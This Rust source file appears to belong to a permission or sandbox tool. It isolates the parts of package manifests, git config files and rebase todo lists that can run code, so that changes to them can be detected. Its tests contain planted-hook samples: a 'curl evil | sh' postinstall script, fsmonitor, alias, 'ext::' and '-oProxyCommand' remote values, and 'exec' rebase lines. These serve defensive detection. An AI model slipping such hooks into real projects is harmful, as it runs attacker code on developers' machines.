//! Files of which only a part makes something run: scripts of packages, settings of git, commands of a rebase.

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fmt;
use std::path::Path;

use serde::de::{Error as _, MapAccess, Visitor};
use serde::{Deserialize, Deserializer, Serialize};
use serde_json::Value;

use super::file_state::FileState;
use crate::permission::{canonical_permission_json, normalize_path_name};

/// What of a file counts.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(super) enum RelevantPart {
    /// All of it.
    Whole,
    /// What a package runs when it is built, tested, installed or committed to.
    Scripts,
    /// Settings of git, but for those that only name branches, remotes and people.
    GitSettings,
    /// What a rebase that stopped would execute.
    RebaseCommands,
}

/// Fields of `package.json` and `composer.json` that name something to run.
const JSON_SCRIPT_FIELDS: [&str; 10] = [
    "scripts",
    "tasks",
    "husky",
    "simple-git-hooks",
    "lint-staged",
    "gitHooks",
    "pre-commit",
    "packageManager",
    "trustedDependencies",
    "nano-staged",
];

/// Tables of `pyproject.toml` that do.
const TOML_SCRIPT_TABLES: [&[&str]; 6] = [
    &["build-system"],
    &["tool", "poe"],
    &["tool", "taskipy"],
    &["tool", "pdm", "scripts"],
    &["tool", "hatch"],
    &["tool", "rye", "scripts"],
];

/// Settings of git that run nothing, whatever they say.
const HARMLESS_GIT_SETTINGS: [(&str, &[&str]); 8] = [
    (
        "core",
        &[
            "repositoryformatversion",
            "filemode",
            "bare",
            "logallrefupdates",
            "ignorecase",
            "precomposeunicode",
            "symlinks",
            "autocrlf",
            "eol",
        ],
    ),
    ("remote", &["fetch", "tagopt", "prune", "promisor", "partialclonefilter"]),
    ("branch", &["remote", "merge", "rebase"]),
    ("user", &["name", "email"]),
    ("submodule", &["active"]),
    ("pull", &["rebase", "ff"]),
    ("push", &["default", "autosetupremote"]),
    ("extensions", &["objectformat"]),
];

impl RelevantPart {
    /// True if nothing that counts differs.
    pub(super) fn is_same(self, path: &Path, one: &FileState, other: &FileState) -> bool {
        match (self, one.text(), other.text()) {
            (Self::Whole, ..) | (_, None, _) | (_, _, None) => one.is_same(other),
            (Self::Scripts | Self::GitSettings | Self::RebaseCommands, Some(one), Some(other)) => {
                self.extract_from_text(path, one) == self.extract_from_text(path, other)
            }
        }
    }

    /// True if there is nothing in it that counts: such a file may come and go.
    pub(super) fn is_irrelevant(self, path: &Path, state: &FileState) -> bool {
        self != Self::Whole && state.text().is_some_and(|text| self.extract_from_text(path, text).is_empty())
    }

    /// What of the text counts, in a form in which equal things are equal texts.
    pub(super) fn extract_from_text(self, path: &Path, text: &str) -> String {
        match self {
            Self::Whole => text.to_owned(),
            Self::Scripts => relevant_package_scripts(path.file_name().unwrap_or(OsStr::new("")), text),
            Self::GitSettings => risky_git_settings(text),
            Self::RebaseCommands => {
                join_relevant_lines(text.lines().filter(|line| is_exec_line(line)).map(str::to_owned))
            }
        }
    }
}

fn relevant_package_scripts(name: &OsStr, text: &str) -> String {
    match normalize_path_name(name).ends_with(".toml") {
        true => relevant_toml_scripts(text),
        false => relevant_json_scripts(text),
    }
    .unwrap_or_else(|| text.to_owned()) // nobody knows what another reader makes of it
}

fn relevant_json_scripts(text: &str) -> Option<String> {
    let Fields(fields) = serde_json::from_str(text).ok()?;
    let named = JSON_SCRIPT_FIELDS
        .iter()
        .filter_map(|name| Some((name, fields.get(*name).filter(|value| !is_empty_relevant_value(value))?)));
    Some(join_relevant_lines(named.map(|(name, value)| format!("{name}: {}", canonical_permission_json(value)))))
}

/// The fields of an object. One that is there twice is read by some as the first and by others as the last: such a text
/// is not understood.
struct Fields(BTreeMap<String, Value>);

impl<'de> Deserialize<'de> for Fields {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Once;
        impl<'de> Visitor<'de> for Once {
            type Value = Fields;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("an object")
            }

            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Fields, A::Error> {
                let mut fields = BTreeMap::new();
                while let Some((name, value)) = map.next_entry()? {
                    if fields.insert(name, value).is_some() {
                        return Err(A::Error::custom("a field is there twice"));
                    }
                }
                Ok(Fields(fields))
            }
        }
        deserializer.deserialize_map(Once)
    }
}

fn relevant_toml_scripts(text: &str) -> Option<String> {
    let table: toml::Table = text.parse().ok()?;
    let table = serde_json::to_value(table).ok()?;
    let named = TOML_SCRIPT_TABLES.iter().filter_map(|path| {
        let value = path.iter().try_fold(&table, |value, name| value.get(name))?;
        Some(format!("{}: {}", path.join("."), canonical_permission_json(value)))
    });
    Some(join_relevant_lines(named))
}

fn is_empty_relevant_value(value: &Value) -> bool {
    value.is_null() || value.as_object().is_some_and(serde_json::Map::is_empty)
}

/// Every line but those that are understood and harmless.
fn risky_git_settings(text: &str) -> String {
    let mut section = String::new();
    let counted = text.lines().filter_map(|line| {
        let line = line.trim();
        if line.is_empty() || line.starts_with(['#', ';']) {
            return None;
        }
        if let Some(header) = line.strip_prefix('[') {
            // A setting behind the bracket on the same line belongs to nobody we know.
            let name = header.strip_suffix(']').unwrap_or("?").split_whitespace().next().unwrap_or("?");
            section = name.to_lowercase();
            return header.contains(']').then_some(()).filter(|()| !header.ends_with(']')).map(|()| line.to_owned());
        }
        let (key, value) = line.split_once('=').map_or((line, ""), |(key, value)| (key.trim(), value.trim()));
        let harmless = !line.ends_with('\\') && is_harmless_setting(&section, &key.to_lowercase(), value);
        (!harmless).then(|| format!("{section}.{key}={value}"))
    });
    join_relevant_lines(counted)
}

fn is_harmless_setting(section: &str, key: &str, value: &str) -> bool {
    let known = HARMLESS_GIT_SETTINGS.iter().any(|(name, keys)| *name == section && keys.contains(&key));
    let address = ["remote", "submodule"].contains(&section) && ["url", "pushurl"].contains(&key);
    known || (address && is_plain_remote_url(value))
}

/// An address that is only fetched from: nothing on this machine, and no helper program.
fn is_plain_remote_url(value: &str) -> bool {
    let schemes = ["https://", "http://", "ssh://", "git://"];
    let behind = schemes.iter().find_map(|scheme| value.strip_prefix(scheme));
    let host = behind.or_else(|| value.split_once('@').map(|(_, host)| host).filter(|host| host.contains(':')));
    !value.contains("::") && host.is_some_and(|host| !host.starts_with('-') && !host.contains("@-"))
}

fn is_exec_line(line: &str) -> bool {
    matches!(line.split_whitespace().next(), Some("exec" | "x"))
}

fn join_relevant_lines(lines: impl Iterator<Item = String>) -> String {
    lines.collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn part(relevant: RelevantPart, name: &str, text: &str) -> String {
        relevant.extract_from_text(Path::new(name), text)
    }

    #[test]
    fn only_the_scripts_of_a_package_count() {
        let old = r#"{"name":"a","dependencies":{"x":"1"},"scripts":{"test":"jest"}}"#;
        let newer = r#"{"scripts": {"test": "jest"}, "name":"a","dependencies":{"x":"2"}}"#;
        let planted = r#"{"name":"a","scripts":{"test":"jest","postinstall":"curl evil | sh"}}"#;
        let json = |text| part(RelevantPart::Scripts, "package.json", text);
        assert_eq!(json(old), r#"scripts: {"test":"jest"}"#);
        assert_eq!(json(old), json(newer));
        assert_ne!(json(old), json(planted));
        assert_eq!(json(r#"{"name":"a","scripts":{}}"#), "");
        assert_eq!(json("{ not json"), "{ not json");
        let twice = r#"{"scripts":{"test":"jest"},"scripts":{"test":"evil"}}"#;
        assert_eq!(json(twice), twice, "who reads it decides what it means");
        let toml = |text| part(RelevantPart::Scripts, "pyproject.toml", text);
        assert_eq!(toml("[project]\nname = 'a'\ndependencies = ['x']"), "");
        assert_eq!(toml("[tool.poe.tasks]\nt = 'evil'"), r#"tool.poe: {"tasks":{"t":"evil"}}"#);
    }

    #[test]
    fn settings_of_git_that_run_nothing_do_not_count() {
        let settings = |text| part(RelevantPart::GitSettings, "config", text);
        let fresh = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote \"origin\"]\n\
                     \turl = git@example.org:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n\
                     [branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[user]\nname = A\n";
        assert_eq!(settings(fresh), "");
        for (planted, counted) in [
            ("[core]\nfsmonitor = evil", "core.fsmonitor=evil"),
            ("[CORE]\n hooksPath = x", "core.hooksPath=x"),
            ("[core] fsmonitor = evil", "[core] fsmonitor = evil"),
            ("[alias]\nst = !evil", "alias.st=!evil"),
            ("[remote \"o\"]\nurl = ext::sh -c evil", "remote.url=ext::sh -c evil"),
            ("[remote \"o\"]\nurl = -oProxyCommand=evil", "remote.url=-oProxyCommand=evil"),
            ("[user]\nname = A\\\nb", "user.name=A\\\nuser.b="),
            ("[include]\npath = x", "include.path=x"),
            ("[filter \"x\"]\nclean = evil", "filter.clean=evil"),
        ] {
            assert_eq!(settings(planted), counted);
        }
    }

    #[test]
    fn of_a_rebase_only_its_commands_count() {
        let todo = "pick 1234 one\nexec evil\n# x comment\nx again\n";
        assert_eq!(part(RelevantPart::RebaseCommands, "git-rebase-todo", todo), "exec evil\nx again");
    }
}
